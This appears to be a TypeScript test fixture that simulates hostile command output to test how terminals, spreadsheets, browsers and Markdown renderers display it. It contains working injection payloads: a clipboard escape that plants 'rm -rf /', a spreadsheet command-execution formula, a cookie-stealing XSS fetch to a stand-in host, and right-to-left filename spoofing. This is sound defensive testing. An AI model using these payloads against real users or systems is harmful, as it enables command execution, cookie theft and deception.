/** Output that attacks terminals, spreadsheets, browsers and readers. */
import { failed, passed, lines, type StepEnding } from "./ending.ts";

const ESC = "\u001B";
const BEL = "\u0007";

/** Endings with hostile output. */
export const hostile = {
  escapes: failed(1, {
    stdout: ({ host }) =>
      lines(
        `${ESC}]0;${host} is fine${BEL}${ESC}[2J${ESC}[1;1HAll patches installed.`,
        `${ESC}]52;c;cm0gLXJmIC8=${ESC}\\copied for you`,
        `${ESC}[31mred that is never reset ${ESC}[8mhidden${ESC}[5A${ESC}[Koverwritten`,
        `\u009B2J\u009D0;8-bit title\u009C\u0090q\u009C`,
        `${ESC}]8;;https://example.invalid/login${ESC}\\Sign in again${ESC}]8;;${ESC}\\`,
      ),
    stderr: () => `${BEL}${BEL}${ESC}[1A${ESC}[2Kpatch-agent: checksum mismatch in payload${ESC}[?25l${ESC}c`,
  }),
  formulas: failed(1, {
    stdout: () =>
      lines("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "host,state", '"quoted, cell",ok'),
    stderr: () => `=HYPERLINK("https://example.invalid/?v="&A1,"inventory import failed")`,
  }),
  markup: failed(1, {
    stdout: () =>
      lines(
        "<script>alert('patched')</script>",
        "<img src=x onerror=\"fetch('https://example.invalid/'+document.cookie)\">",
        "</pre></td></table><h1>Everything passed</h1><!--",
        "]]></failure></testcase>",
      ),
    stderr: () => 'template error: unexpected "</body>" in /srv/www/index.html & more',
  }),
  markdown: failed(1, {
    stdout: () =>
      lines(
        "# Everything passed",
        "```",
        "| machine | state |",
        "|---|---|",
        "![tracker](https://example.invalid/pixel.png) [click](javascript:alert(1)) **bold** @everyone",
      ),
    stderr: () => "~~~\n> changelog parser stopped at line 3: `unbalanced fence`",
  }),
  bidirectional: failed(1, {
    stdout: () => "installing invoice\u202Efdp.exe\u202C and \u2066pay\u2069load\u200B\u200C\u200D\uFEFF",
    stderr: () => "verification of \u202Eelif.tam\u202C fai\u200Bled: digest differs",
  }),
  progressBar: failed(1, {
    stdout: () =>
      `Fetching base image\r\n${Array.from({ length: 41 }, (_, step) => `${String(Math.round(step * 2.5)).padStart(3)}% [${"#".repeat(step)}${".".repeat(40 - step)}]`).join("\r")}\r\nunpacking\r\n`,
    stderr: () => "unpack: unexpected end of archive\r\n",
  }),
  nullByte: failed(2, {
    stdout: () => "record 1\u0000record 2\u0000\u0001\u0002\u007F\u0008\u0008\u0008\u000B\u000C\uFFFD",
    stderr: () => "parser: stray NUL\u0000 in record 3",
  }),
  wideText: failed(1, {
    stdout: () =>
      lines(
        "更新プログラムを確認しています… 한국어 텍스트 繁體中文",
        "👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈🇩🇪 e\u0301 a\u0308\u0323 Z\u0351\u036B\u0343algo",
        "ｆｕｌｌｗｉｄｔｈ ﷽",
      ),
    stderr: () => "💥 配置ファイルが見つかりません: /etc/アプリ/設定.yaml",
  }),
  colourfulSuccess: passed(
    ({ host }) => `${ESC}[32m✔${ESC}[0m ${host}: nothing to do${ESC}]0;done${BEL}\r\n=1+1\r\n`,
  ),
} as const satisfies Record<string, StepEnding>;
